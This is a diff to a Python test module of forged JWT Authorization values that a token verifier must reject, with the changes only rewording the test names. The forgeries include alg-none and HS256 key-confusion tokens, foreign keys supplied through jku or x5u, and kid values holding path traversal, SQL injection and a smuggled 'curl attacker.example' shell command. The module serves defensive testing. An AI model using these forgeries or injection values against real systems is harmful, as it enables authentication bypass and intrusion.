@@ -1,7 +1,7 @@
-"""Tokens that must not pass, grouped by the clause that refuses them, and unusual ones that must.
+"""Tokens that must be rejected, grouped by the clause that rejects them, and unusual tokens that must be accepted.
 
-Each attack is an ``Authorization`` header's value made by a pool whose private key is ours, so that everything about
-the token is right but the one thing that the attack is about.
+Each attack is the value of an ``Authorization`` header. The tests own the pool's private key, so each token is valid in
+every respect but one.
 """
 
 import base64
@@ -25,7 +25,7 @@ DAY = 24 * 3600
 
 @dataclass(frozen=True)
 class Attack:
-    """``authorization`` makes the header's value; the verifier must refuse it for ``reason``."""
+    """``authorization`` returns the header's value. The verifier must reject it for ``reason``."""
 
     name: str
     reason: Reason
@@ -37,7 +37,7 @@ class Attack:
 
 @dataclass(frozen=True)
 class Oddity:
-    """An unusual token that is valid all the same."""
+    """An unusual but valid token."""
 
     name: str
     authorization: Callable[[Pool], str]
@@ -51,7 +51,7 @@ def _claims_attack(reason: Reason, name: str, use: str = "id", **changes: Any) -
 
 
 def _raw_payload(pool: Pool, **replaced: str) -> str:
-    """A signed payload in which members have JSON text of the attacker's own."""
+    """Return a token whose signed payload has the given JSON text for some claims."""
     text = json.dumps(pool.claims(**dict.fromkeys(replaced, "@")))
     for name, value in replaced.items():
         text = text.replace(f'"{name}": "@"', f'"{name}": {value}')
@@ -114,7 +114,7 @@ def _with(position: int, change: Callable[[str], str]) -> Callable[[Pool], str]:
 
 
 def _last_bits_set(part: str) -> str:
-    """Another spelling of the same bytes: a 256-byte value leaves four bits of its last character unused."""
+    """Encode the same bytes differently: the last character of a 256-byte value has four unused bits."""
     alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
     return part[:-1] + alphabet[alphabet.index(part[-1]) | 1]
 
@@ -124,7 +124,7 @@ def _as_standard_base64(part: str) -> str:
 
 
 def _signature_with_both(pool: Pool) -> str:
-    """A token whose signature needs ``-`` or ``_``, spelled ``+`` and ``/``."""
+    """Return a token whose signature has ``+`` and ``/`` in place of ``-`` and ``_``."""
     n = 0
     while True:
         header, payload, signature = pool.token(jti=str(n)).split(".")
@@ -134,9 +134,9 @@ def _signature_with_both(pool: Pool) -> str:
 
 
 FORM = [
-    Attack("nothing", Reason.MALFORMED, lambda pool: ""),
+    Attack("an empty value", Reason.MALFORMED, lambda pool: ""),
     Attack("a word", Reason.MALFORMED, lambda pool: "garbage"),
-    Attack("Bearer with nothing", Reason.MALFORMED, lambda pool: "Bearer"),
+    Attack("only Bearer", Reason.MALFORMED, lambda pool: "Bearer"),
     Attack("Bearer twice", Reason.MALFORMED, lambda pool: f"Bearer Bearer {pool.token()}"),
     Attack("Bearer with a tab", Reason.MALFORMED, lambda pool: f"Bearer\t{pool.token()}"),
     Attack("Bearer with a tab and a space", Reason.MALFORMED, lambda pool: f"Bearer \t{pool.token()}"),
@@ -170,27 +170,25 @@ FORM = [
     Attack("whitespace in the payload", Reason.MALFORMED, _with(1, lambda part: part[:4] + " " + part[4:])),
     Attack("a tab in the signature", Reason.MALFORMED, _with(2, lambda part: part[:4] + "\t" + part[4:])),
     Attack("an impossible length of base64", Reason.MALFORMED, _with(2, lambda part: part + "AAA")),
-    Attack("a signature spelled with stray bits", Reason.MALFORMED, _with(2, _last_bits_set)),
-    Attack("a letter beyond ASCII", Reason.MALFORMED, _with(1, lambda part: part[:4] + "é" + part[4:])),
+    Attack("a signature with unused bits set", Reason.MALFORMED, _with(2, _last_bits_set)),
+    Attack("a non-ASCII letter", Reason.MALFORMED, _with(1, lambda part: part[:4] + "é" + part[4:])),
     Attack(
         "a fullwidth letter in Bearer",
         Reason.MALFORMED,
         lambda pool: f"Ｂearer {pool.token()}".encode().decode("latin-1"),
     ),
-    Attack(
-        "a long s in Bearer's place", Reason.MALFORMED, lambda pool: f"Bearſr {pool.token()}".encode().decode("latin-1")
-    ),
+    Attack("a long s in Bearer", Reason.MALFORMED, lambda pool: f"Bearſr {pool.token()}".encode().decode("latin-1")),
     Attack("a header that is not JSON", Reason.MALFORMED, lambda pool: pool.sign(pool.claims(), "alg: RS256")),
     Attack("a header that is a list", Reason.MALFORMED, lambda pool: pool.sign(pool.claims(), '["RS256"]')),
     Attack("a header that is not UTF-8", Reason.MALFORMED, lambda pool: pool.sign(pool.claims(), b'{"alg": "\xff"}')),
     Attack(
-        "a header member twice",
+        "a duplicate header parameter",
         Reason.MALFORMED,
         lambda pool: pool.sign(pool.claims(), f'{{"alg": "none", "alg": "RS256", "kid": "{pool.key.kid}"}}'),
     ),
     Attack("a payload that is not JSON", Reason.MALFORMED, lambda pool: pool.sign("sub=admin")),
     Attack("a payload that is a list", Reason.MALFORMED, lambda pool: pool.sign([pool.claims()])),
-    Attack("a payload that is text", Reason.MALFORMED, lambda pool: pool.sign('"admin"')),
+    Attack("a payload that is a string", Reason.MALFORMED, lambda pool: pool.sign('"admin"')),
     Attack("a payload that is null", Reason.MALFORMED, lambda pool: pool.sign("null")),
     Attack("a payload that is not UTF-8", Reason.MALFORMED, lambda pool: pool.sign(b'{"sub": "\xff"}')),
     Attack("a payload in UTF-16", Reason.MALFORMED, lambda pool: pool.sign(json.dumps(pool.claims()).encode("utf-16"))),
@@ -200,20 +198,22 @@ FORM = [
         lambda pool: pool.sign(json.dumps(pool.claims()).encode("utf-8-sig")),
     ),
     Attack("a payload with trailing data", Reason.MALFORMED, lambda pool: pool.sign(json.dumps(pool.claims()) + "{}")),
-    Attack("a payload nested without end", Reason.MALFORMED, lambda pool: pool.sign("[" * 5000)),
+    Attack("a payload with 5,000 levels of nesting", Reason.MALFORMED, lambda pool: pool.sign("[" * 5000)),
     Attack(
-        "a claim twice",
+        "a duplicate claim",
         Reason.MALFORMED,
         lambda pool: pool.sign(json.dumps(pool.claims()).replace('{"sub"', '{"sub": "another", "sub"', 1)),
     ),
     Attack(
-        "the same claim twice, spelled with an escape",
+        "a duplicate claim written with an escape",
         Reason.MALFORMED,
         lambda pool: pool.sign(json.dumps(pool.claims()).replace('{"sub"', '{"s\\u0075b": "another", "sub"', 1)),
     ),
-    Attack("a member twice deep inside", Reason.MALFORMED, lambda pool: _raw_payload(pool, x='{"a": 1, "a": 2}')),
+    Attack(
+        "a duplicate key in a nested object", Reason.MALFORMED, lambda pool: _raw_payload(pool, x='{"a": 1, "a": 2}')
+    ),
     Attack("more than 8 KB", Reason.TOO_LONG, lambda pool: pool.token(padding="x" * 8192)),
-    Attack("a megabyte's beginning", Reason.TOO_LONG, lambda pool: "x" * 60_000),
+    Attack("60,000 characters", Reason.TOO_LONG, lambda pool: "x" * 60_000),
 ]
 
 HEADER = [
@@ -221,28 +221,32 @@ HEADER = [
         Attack(f"alg {alg!r} without a signature", Reason.BAD_ALGORITHM, _algorithm(alg, _none))
         for alg in ("none", "None", "NONE", "nOnE", "none ", "", None, 0, False, [], ["none"], {"alg": "none"})
     ),
-    Attack("alg left out", Reason.BAD_ALGORITHM, lambda pool: pool.token(header={"alg": ...})),
+    Attack("no alg", Reason.BAD_ALGORITHM, lambda pool: pool.token(header={"alg": ...})),
     Attack("alg RS256 in a list", Reason.BAD_ALGORITHM, lambda pool: pool.token(header={"alg": ["RS256"]})),
-    Attack("alg rs256 in small letters", Reason.BAD_ALGORITHM, lambda pool: pool.token(header={"alg": "rs256"})),
-    Attack("alg RS256 with a space", Reason.BAD_ALGORITHM, lambda pool: pool.token(header={"alg": "RS256 "})),
-    Attack("HS256 by the public key as PEM", Reason.BAD_ALGORITHM, _algorithm("HS256", _hmac_with(_public(PEM, SPKI)))),
+    Attack("alg rs256 in lower case", Reason.BAD_ALGORITHM, lambda pool: pool.token(header={"alg": "rs256"})),
+    Attack("alg RS256 with a trailing space", Reason.BAD_ALGORITHM, lambda pool: pool.token(header={"alg": "RS256 "})),
     Attack(
-        "HS256 by the public key as PKCS 1 PEM",
+        "HS256 with the public key as PEM", Reason.BAD_ALGORITHM, _algorithm("HS256", _hmac_with(_public(PEM, SPKI)))
+    ),
+    Attack(
+        "HS256 with the public key as PKCS #1 PEM",
         Reason.BAD_ALGORITHM,
         _algorithm("HS256", _hmac_with(_public(PEM, PKCS1))),
     ),
-    Attack("HS256 by the public key as DER", Reason.BAD_ALGORITHM, _algorithm("HS256", _hmac_with(_public(DER, SPKI)))),
     Attack(
-        "HS256 by the JWK",
+        "HS256 with the public key as DER", Reason.BAD_ALGORITHM, _algorithm("HS256", _hmac_with(_public(DER, SPKI)))
+    ),
+    Attack(
+        "HS256 with the JWK",
         Reason.BAD_ALGORITHM,
         _algorithm("HS256", _hmac_with(lambda pool: json.dumps(pool.key.jwk).encode())),
     ),
     Attack(
-        "HS256 by the modulus",
+        "HS256 with the modulus",
         Reason.BAD_ALGORITHM,
         _algorithm("HS256", _hmac_with(lambda pool: base64.urlsafe_b64decode(pool.key.jwk["n"] + "=="))),
     ),
-    Attack("HS256 by the empty secret", Reason.BAD_ALGORITHM, _algorithm("HS256", _hmac_with(lambda pool: b""))),
+    Attack("HS256 with an empty secret", Reason.BAD_ALGORITHM, _algorithm("HS256", _hmac_with(lambda pool: b""))),
     Attack("RS384", Reason.BAD_ALGORITHM, _algorithm("RS384", _rsa(hashes.SHA384()))),
     Attack("RS512", Reason.BAD_ALGORITHM, _algorithm("RS512", _rsa(hashes.SHA512()))),
     Attack("PS256", Reason.BAD_ALGORITHM, _algorithm("PS256", _pss)),
@@ -250,7 +254,7 @@ HEADER = [
     Attack("EdDSA", Reason.BAD_ALGORITHM, _algorithm("EdDSA", _none)),
     Attack("RSA1_5", Reason.BAD_ALGORITHM, _algorithm("RSA1_5", _rsa(hashes.SHA256()))),
     Attack("crit", Reason.BAD_HEADER, lambda pool: pool.token(header={"crit": ["exp"]})),
-    Attack("crit that is empty", Reason.BAD_HEADER, lambda pool: pool.token(header={"crit": []})),
+    Attack("an empty crit", Reason.BAD_HEADER, lambda pool: pool.token(header={"crit": []})),
     Attack("crit b64", Reason.BAD_HEADER, lambda pool: pool.token(header={"crit": ["b64"], "b64": False})),
     Attack("no kid", Reason.BAD_HEADER, lambda pool: pool.token(header={"kid": ...})),
     Attack("a kid that is null", Reason.BAD_HEADER, lambda pool: pool.token(header={"kid": None})),
@@ -262,7 +266,7 @@ HEADER = [
         for name, kid in {
             "empty": "",
             "a path": "../../../../dev/null",
-            "an address": "https://attacker.example/jwks.json",
+            "a URL": "https://attacker.example/jwks.json",
             "SQL": "' UNION SELECT 'key' --",
             "a shell command": "key.pem; curl attacker.example",
             "5 KB long": "k" * 5000,
@@ -274,34 +278,34 @@ HEADER = [
 
 SIGNATURE = [
     Attack(
-        "another's key under our kid",
+        "a foreign key under the pool's kid",
         Reason.BAD_SIGNATURE,
         lambda pool: pool.token(key=OTHER_KEY, header={"kid": pool.key.kid}),
     ),
     Attack(
-        "another's key, embedded as jwk",
+        "a foreign key embedded as jwk",
         Reason.BAD_SIGNATURE,
         lambda pool: pool.token(key=OTHER_KEY, header={"kid": pool.key.kid, "jwk": OTHER_KEY.jwk}),
     ),
     Attack(
-        "another's key, embedded under its own kid",
+        "a foreign key embedded as jwk under its own kid",
         Reason.UNKNOWN_KEY,
         lambda pool: pool.token(key=OTHER_KEY, header={"jwk": OTHER_KEY.jwk}),
     ),
     Attack(
-        "another's key, at a jku",
+        "a foreign key at a jku",
         Reason.UNKNOWN_KEY,
         lambda pool: pool.token(key=OTHER_KEY, header={"jku": "https://attacker.example/jwks.json"}),
     ),
     Attack(
-        "another's key, at an x5u",
+        "a foreign key at an x5u",
         Reason.BAD_SIGNATURE,
         lambda pool: pool.token(
             key=OTHER_KEY, header={"kid": pool.key.kid, "x5u": "https://attacker.example/cert.pem"}
         ),
     ),
     Attack(
-        "another's key, in an x5c",
+        "a foreign key in an x5c",
         Reason.BAD_SIGNATURE,
         lambda pool: pool.token(key=OTHER_KEY, header={"kid": pool.key.kid, "x5c": [OTHER_KEY.jwk["n"]]}),
     ),
@@ -321,12 +325,12 @@ SIGNATURE = [
         lambda pool: _join(*_parts(pool)[:2], pool.token(jti="other").split(".")[2]),
     ),
     Attack("a signature of zeros", Reason.BAD_SIGNATURE, _with(2, lambda _: b64(bytes(256)))),
-    Attack("a short signature", Reason.BAD_SIGNATURE, _with(2, lambda _: b64(b"short"))),
-    Attack("a long signature", Reason.BAD_SIGNATURE, _with(2, lambda _: b64(bytes(512)))),
-    Attack("RS512's signature called RS256's", Reason.BAD_SIGNATURE, _algorithm("RS256", _rsa(hashes.SHA512()))),
-    Attack("PSS's signature called RS256's", Reason.BAD_SIGNATURE, _algorithm("RS256", _pss)),
+    Attack("a signature that is too short", Reason.BAD_SIGNATURE, _with(2, lambda _: b64(b"short"))),
+    Attack("a signature that is too long", Reason.BAD_SIGNATURE, _with(2, lambda _: b64(bytes(512)))),
+    Attack("an RS512 signature with alg RS256", Reason.BAD_SIGNATURE, _algorithm("RS256", _rsa(hashes.SHA512()))),
+    Attack("a PSS signature with alg RS256", Reason.BAD_SIGNATURE, _algorithm("RS256", _pss)),
     Attack(
-        "no signature, expired",
+        "a wrong signature on an expired payload",
         Reason.BAD_SIGNATURE,
         lambda pool: _join(_parts(pool)[0], b64(pool.claims(exp=1)), _parts(pool)[2]),
     ),
@@ -334,13 +338,13 @@ SIGNATURE = [
 
 BAD_TIMES = {
     "null": None,
-    "text": str(NOW + 3600),
+    "a string": str(NOW + 3600),
     "true": True,
     "a list": [NOW + 3600],
     "a fraction": NOW + 3600.5,
     "a whole number written as a fraction": float(NOW + 3600),
     "negative": -1,
-    "beyond the year 9999": 253402300800,
+    "after the year 9999": 253402300800,
     "huge": 10**30,
 }
 
@@ -360,7 +364,7 @@ TIMES = [
         for text in ("NaN", "Infinity", "-Infinity", "9" * 5000)
     ),
     Attack("exp 1e400", Reason.BAD_CLAIMS, lambda pool: _raw_payload(pool, exp="1e400")),
-    Attack("exp 1e10, a fraction to JSON", Reason.BAD_CLAIMS, lambda pool: _raw_payload(pool, exp="1e10")),
+    Attack("exp 1e10, which is parsed as a float", Reason.BAD_CLAIMS, lambda pool: _raw_payload(pool, exp="1e10")),
     *(
         _claims_attack(Reason.BAD_CLAIMS, f"no {claim}", use, **{claim: ...})
         for claim in ("exp", "iat", "auth_time")
@@ -384,14 +388,14 @@ ORIGIN = [
         for name, change in {
             "of another pool": lambda issuer: issuer[:-1] + "2",
             "of another region": lambda _: OTHER_REGION,
-            "with a slash": lambda issuer: issuer + "/",
-            "by http": lambda issuer: issuer.replace("https", "http"),
-            "in capitals": str.upper,
-            "that only begins as ours": lambda issuer: issuer + ".attacker.example",
+            "with a trailing slash": lambda issuer: issuer + "/",
+            "with http": lambda issuer: issuer.replace("https", "http"),
+            "in upper case": str.upper,
+            "that only starts with the pool's": lambda issuer: issuer + ".attacker.example",
             "empty": lambda _: "",
             "null": lambda _: None,
             "in a list": lambda issuer: [issuer],
-            "left out": lambda _: ...,
+            "missing": lambda _: ...,
         }.items()
     ),
     *(
@@ -400,7 +404,7 @@ ORIGIN = [
     ),
     Attack("a refresh token", Reason.WRONG_USE, lambda pool: pool.token("access", token_use="refresh")),
     Attack(
-        "a refresh token as Cognito has it, encrypted",
+        "an encrypted refresh token, as Cognito issues them",
         Reason.MALFORMED,
         lambda pool: _join(b64({"cty": "JWT", "enc": "A256GCM", "alg": "RSA-OAEP"}), "a", "b", "c", "d"),
     ),
@@ -423,12 +427,12 @@ ORIGIN = [
         for value in ("anotherclient", "", None, 1, ["ourclient"], [], {"ourclient": 1}, ...)
     ),
     Attack(
-        "an ID token that names the client as access tokens do",
+        "an ID token with client_id instead of aud",
         Reason.WRONG_CLIENT,
         lambda pool: pool.token(aud=..., client_id=pool.client_id),
     ),
     Attack(
-        "an access token that names the client as ID tokens do",
+        "an access token with aud instead of client_id",
         Reason.WRONG_CLIENT,
         lambda pool: pool.token("access", client_id=..., aud=pool.client_id),
     ),
@@ -463,19 +467,19 @@ CLAUSES = {
 }
 ATTACKS = [attack for attacks in CLAUSES.values() for attack in attacks]
 
-COGNITO_ONLY = [  # what the Cognito authorizer refuses besides: it takes ID tokens only
+COGNITO_ONLY = [  # the Cognito authorizer accepts only ID tokens
     Attack("an access token", Reason.WRONG_USE, lambda pool: pool.token("access")),
 ]
 
 ODDITIES = [
-    Oddity("an ID token, bare", lambda pool: pool.token()),
+    Oddity("a bare ID token", lambda pool: pool.token()),
     Oddity("an ID token after Bearer", lambda pool: f"Bearer {pool.token()}"),
-    Oddity("bearer in small letters", lambda pool: f"bearer {pool.token()}"),
-    Oddity("BEARER in capitals", lambda pool: f"BEARER {pool.token()}"),
+    Oddity("bearer in lower case", lambda pool: f"bearer {pool.token()}"),
+    Oddity("BEARER in upper case", lambda pool: f"BEARER {pool.token()}"),
     Oddity("two spaces after Bearer", lambda pool: f"Bearer  {pool.token()}"),
     Oddity("a typ", lambda pool: pool.token(header={"typ": "JWT"})),
     Oddity(
-        "header members that are never read",
+        "header parameters that are ignored",
         lambda pool: pool.token(
             header={
                 "jku": "https://attacker.example/",
@@ -488,15 +492,15 @@ ODDITIES = [
     Oddity("exp within the leeway", lambda pool: pool.token(exp=int(time.time()) - 20)),
     Oddity("iat within the leeway", lambda pool: pool.token(iat=int(time.time()) + 20)),
     Oddity("nbf within the leeway", lambda pool: pool.token(nbf=int(time.time()) + 20)),
-    Oddity("nbf long past", lambda pool: pool.token(nbf=0)),
+    Oddity("nbf long ago", lambda pool: pool.token(nbf=0)),
     Oddity("exp in the year 9999", lambda pool: pool.token(exp=253402300799)),
     Oddity("auth_time long ago", lambda pool: pool.token(auth_time=1)),
     Oddity("no groups", lambda pool: pool.token(**{"cognito:groups": []})),
-    Oddity("groups of any spelling", lambda pool: pool.token(**{"cognito:groups": ["a,b", "ä", "😀", ""]})),
+    Oddity("unusual names of groups", lambda pool: pool.token(**{"cognito:groups": ["a,b", "ä", "😀", ""]})),
     Oddity("a sub of one character", lambda pool: pool.token(sub="a")),
     Oddity("a sub of 128 characters", lambda pool: pool.token(sub="a" * 128)),
     Oddity(
-        "claims of every kind beside ours",
+        "additional claims of every type",
         lambda pool: pool.token(
             address={"formatted": "x"}, **{"custom:n": None, "identities": [{}], "email_verified": True, "f": 1.5}
         ),
